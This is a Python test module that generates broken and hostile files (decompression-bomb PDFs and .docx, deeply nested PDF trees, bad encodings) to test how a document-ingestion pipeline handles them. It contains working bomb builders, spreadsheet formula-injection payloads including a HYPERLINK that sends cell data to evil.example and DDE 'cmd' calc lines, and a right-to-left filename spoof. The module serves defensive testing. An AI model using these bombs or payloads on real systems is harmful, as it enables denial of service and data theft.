"""A generated kit of broken and hostile input files, and what the pipeline should make of each.

PDFs that must be malformed on purpose are written object by object (`pdf_document`), so every
byte is deliberate; decompression bombs are built from repeated deflate blocks, so a stream
that inflates to gigabytes costs a few megabytes and no gigabytes here. Nothing in this module
imports the pipeline: `expected` values are plain reason codes ("corrupt", "too_large", ...).
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from functools import cache

from tests import file_factory, pdf_factory

GIB = 1024**3
ZERO_CHUNK = 1 << 24
READ = "read"
"""`Case.expected` for a file that must be read: its paragraphs carry `must_contain`."""


# --------------------------------------------------------------------------- raw PDF writing


def pdf_document(objects: Sequence[bytes], *, root: int = 1, header: bytes = b"%PDF-1.7") -> bytes:
    """A PDF from numbered object bodies (object n is `objects[n - 1]`) with a correct xref."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def text_content(lines: Sequence[str], *, size: float = 11, top: float = 780) -> bytes:
    """A content stream that draws each line with Helvetica, one below the other."""
    ops = [b"BT /F1 %g Tf %g TL 50 %g Td" % (size, size * 1.2, top)]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(%s) Tj T*" % escaped.encode("latin-1"))
    ops.append(b"ET")
    return b"\n".join(ops)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
MEDIA_BOX = b"/MediaBox [0 0 595 842]"


def one_page_pdf(content: bytes, *, resources: bytes = b"/Font << /F1 4 0 R >>") -> bytes:
    """Catalog 1, pages 2, page 3, font 4, content 5, then any objects the caller appends."""
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R %s /Resources << %s >> /Contents 5 0 R >>"
            % (MEDIA_BOX, resources),
            FONT,
            stream(content),
        ]
    )


# --------------------------------------------------------------------------- hostile PDFs

SENTENCE = "Protect the victims of trafficking and prosecute the organized criminal groups."


def broken_xref_pdf() -> bytes:
    """The single-column report with every cross-reference offset pointing at the wrong byte.

    A reader that trusts the table finds garbage; one that rebuilds it (pdfium does) reads
    the whole document.
    """
    data = pdf_factory.single_column_report()
    start = int(re.search(rb"startxref\s+(\d+)", data).group(1))
    table = data[start:]
    shifted = re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + 7), table)
    return data[:start] + shifted


def many_pages_pdf(pages: int = 3_000) -> bytes:
    """`pages` tiny pages sharing one content stream: small on disk, long to walk."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + n) for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        FONT,
        stream(text_content([SENTENCE])),
    ]
    page = b"<< /Type /Page /Parent 2 0 R %s /Resources << /Font << /F1 3 0 R >> >> " % MEDIA_BOX
    objects += [page + b"/Contents 4 0 R >>"] * pages
    return pdf_document(objects)


HUGE_PAGE_LINES = 2_000
HUGE_PAGE_LINE = " ".join([SENTENCE] * 2)


def huge_page_pdf(lines: int = HUGE_PAGE_LINES) -> bytes:
    """One page holding `lines` long lines in 0.4 pt type: hundreds of thousands of characters."""
    return one_page_pdf(text_content([HUGE_PAGE_LINE] * lines, size=0.4, top=820))


def deep_page_tree_pdf(depth: int = 5_000) -> bytes:
    """A page tree of `depth` nested /Pages nodes above a single page (recursive readers die)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        parent = b"/Parent %d 0 R " % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    page_number = 2 + depth
    objects.append(
        b"<< /Type /Page /Parent %d 0 R %s /Resources << /Font << /F1 %d 0 R >> >> "
        b"/Contents %d 0 R >>" % (page_number - 1, MEDIA_BOX, page_number + 1, page_number + 2)
    )
    objects += [FONT, stream(text_content([SENTENCE]))]
    return pdf_document(objects)


def deep_forms_pdf(depth: int = 5_000) -> bytes:
    """A page that draws form X0, which draws X1, ... X`depth`, which finally draws text."""
    first_form = 6
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R %s /Resources << /XObject << /X %d 0 R >> >> "
        b"/Contents 5 0 R >>" % (MEDIA_BOX, first_form),
        FONT,
        stream(b"/X Do"),
    ]
    for level in range(depth):
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << %s >>"
        if level < depth - 1:
            inner = form % (b"/XObject << /X %d 0 R >>" % (first_form + level + 1))
            objects.append(stream(b"/X Do", inner))
        else:
            objects.append(stream(text_content([SENTENCE]), form % b"/Font << /F1 4 0 R >>"))
    return pdf_document(objects)


@cache
def deflate_zeros(size: int) -> bytes:
    """A raw deflate stream that inflates to `size` zero bytes, built in milliseconds.

    After a full flush the compressor forgets its history, so the blocks for one chunk of
    zeros are the same bytes every time and can simply be repeated.
    """
    assert size % ZERO_CHUNK == 0, "size must be a multiple of 16 MiB"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(ZERO_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (size // ZERO_CHUNK) + b"\x03\x00"  # an empty final block ends the stream


def zlib_zeros(size: int) -> bytes:
    """`deflate_zeros` in a zlib wrapper (header, then the Adler-32 of `size` zeros)."""
    adler = ((size % 65521) << 16) | 1
    return b"\x78\xda" + deflate_zeros(size) + struct.pack(">I", adler)


def flate_bomb_pdf(inflated: int = 2 * GIB) -> bytes:
    """A one-page PDF whose FlateDecode content stream inflates to `inflated` bytes."""
    bomb = zlib_zeros(inflated)
    return pdf_document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R %s /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents [5 0 R 6 0 R] >>" % MEDIA_BOX,
            FONT,
            stream(text_content([SENTENCE])),
            stream(bomb, b"/Filter /FlateDecode"),
        ]
    )


# --------------------------------------------------------------------------- zip bomb


def zip_bomb_docx(inflated: int = 2 * GIB) -> bytes:
    """A real .docx plus a member that inflates to `inflated` bytes, written by hand.

    `zipfile` would have to compress the gigabytes itself; the member here reuses
    `deflate_zeros`, with the CRC-32 the header needs computed chunk by chunk.
    """
    source = zipfile.ZipFile(io.BytesIO(file_factory.submission_docx()))
    members = [(i.filename, source.read(i)) for i in source.infolist()]
    entries = [(name, _raw_deflate(data), len(data), zlib.crc32(data)) for name, data in members]
    entries.append(
        ("word/media/padding.bin", deflate_zeros(inflated), inflated, _zeros_crc(inflated))
    )
    return _zip_archive(entries)


def _raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


@cache
def _zeros_crc(size: int) -> int:
    crc, chunk = 0, bytes(ZERO_CHUNK)
    for _ in range(size // ZERO_CHUNK):
        crc = zlib.crc32(chunk, crc)
    return crc


def _zip_archive(entries: Sequence[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, raw deflate data, inflated size, CRC-32) members, deflate method."""
    out, central = bytearray(), bytearray()
    for name, data, size, crc in entries:
        encoded = name.encode()
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
        central += struct.pack("<I", 0x02014B50) + struct.pack("<H", 20) + fields
        central += struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, len(out)) + encoded
        out += struct.pack("<I", 0x04034B50) + fields + struct.pack("<HH", len(encoded), 0)
        out += encoded + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0
    )
    return bytes(out + central + end)


# --------------------------------------------------------------------------- text payloads

FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full report")',
    "+cmd|' /C calc'!A0 is how the attack starts, said the analyst.",
    "@SUM(1+1)*cmd|' /C calc'!A0 appeared in a submitted spreadsheet.",
    "-2+3+cmd|' /C notepad'!A0 was pasted into the comments field.",
)
RTL_OVERRIDE = "\u202e"
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
RTL_TEXT = f"Send the evidence file invoice{RTL_OVERRIDE}fdp.exe to the prosecutor today."
RTL_CLEAN = "Send the evidence file invoicefdp.exe to the prosecutor today."
LONG_LINE_SENTENCE = "Prosecutors asked for faster mutual legal assistance in freezing assets. "
LONG_LINE_BYTES = 5_000_000
ACCENTED = "La cooperación judicial protege a las víctimas y a los testigos en el proceso."
FRENCH = "Il convient de protéger les migrants objets d'un trafic et leurs enfants."


def long_line_text(size: int = LONG_LINE_BYTES) -> bytes:
    """One line of `size` bytes with no newline at all (a log dump, a minified export)."""
    line = (LONG_LINE_SENTENCE * (size // len(LONG_LINE_SENTENCE) + 1))[:size]
    return line.encode("ascii")


def formula_text() -> bytes:
    return "\n\n".join(FORMULA_PAYLOADS).encode("utf-8")


# --------------------------------------------------------------------------- the kit


@dataclass(frozen=True, slots=True)
class Case:
    """One file of the kit: its name, how to make it, and the one outcome it must have.

    `expected` is a reason code for `errors.csv`, or `READ` for a file that must be read; a
    read file's paragraphs must contain every string of `must_contain`. `allowed` lists other
    reasons that are acceptable where the outcome depends on the machine's speed (timeout).
    """

    name: str
    make: Callable[[], bytes]
    expected: str
    must_contain: tuple[str, ...] = ()
    allowed: tuple[str, ...] = field(default=())


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


LONG_NAME = "submission " + "très longue " * 18 + ".txt"
KIT: tuple[Case, ...] = (
    Case("zero_bytes.pdf", _const(b""), "empty"),
    Case("truncated.pdf", pdf_factory.truncated_report, "corrupt"),
    Case(
        "broken_xref.pdf",
        broken_xref_pdf,
        READ,
        ("Fund specialised shelters and long-term assistance",),
    ),
    Case(
        "encrypted_no_user_password.pdf",
        pdf_factory.encrypted_report,
        READ,
        pdf_factory.ENCRYPTED_LINES,
    ),
    Case(
        "encrypted_with_password.pdf", lambda: pdf_factory.encrypted_report("s3cret"), "encrypted"
    ),
    Case("image_only.pdf", pdf_factory.image_only_report, "needs_ocr"),
    Case("three_thousand_pages.pdf", many_pages_pdf, "too_large"),
    Case("huge_page.pdf", huge_page_pdf, READ, (SENTENCE[:40],)),
    Case("deep_page_tree.pdf", deep_page_tree_pdf, "corrupt", allowed=("timeout",)),
    Case("deep_forms.pdf", deep_forms_pdf, "corrupt", allowed=("timeout",)),
    Case("flate_bomb.pdf", flate_bomb_pdf, "too_large", allowed=("timeout",)),
    Case("zip_bomb.docx", zip_bomb_docx, "too_large"),
    Case(
        "html_named.pdf",
        _const(
            b"<!DOCTYPE html><html><body><h1>Notes</h1>"
            b"<p>Wildlife trafficking finances armed groups in the region.</p></body></html>"
        ),
        READ,
        ("Wildlife trafficking finances armed groups in the region.",),
    ),
    Case(
        "text_named.docx",
        _const(b"Illegal logging is laundered through legitimate timber supply chains.\n"),
        READ,
        ("Illegal logging is laundered through legitimate timber supply chains.",),
    ),
    Case("utf16.txt", lambda: FRENCH.encode("utf-16"), READ, (FRENCH,)),
    Case("windows1252.txt", lambda: ACCENTED.encode("cp1252"), READ, (ACCENTED,)),
    Case(
        "nul_bytes.txt",
        _const(b"Mark firearms at\x00 import and keep\x00 records for tracing.\n"),
        READ,
        ("Mark firearms at import and keep records for tracing.",),
    ),
    Case("one_5mb_line.txt", long_line_text, READ, (LONG_LINE_SENTENCE.strip(),)),
    Case("formulas.txt", formula_text, READ, FORMULA_PAYLOADS),
    Case("rtl_override.txt", lambda: RTL_TEXT.encode("utf-8"), READ, (RTL_CLEAN,)),
    Case("name with spaces.txt", _const(SENTENCE.encode()), READ, (SENTENCE,)),
    Case("informe_ñandú_報告.txt", lambda: ACCENTED.encode("utf-8"), READ, (ACCENTED,)),
    Case(
        "-leading-dash.txt",
        _const(b"Seize the proceeds of wildlife crime.\n"),
        READ,
        ("Seize the proceeds of wildlife crime.",),
    ),
    Case(
        LONG_NAME,
        _const(b"Trace the firearms recovered at crime scenes.\n"),
        READ,
        ("Trace the firearms recovered at crime scenes.",),
    ),
)
SYMLINK_NAME = "link_out.txt"
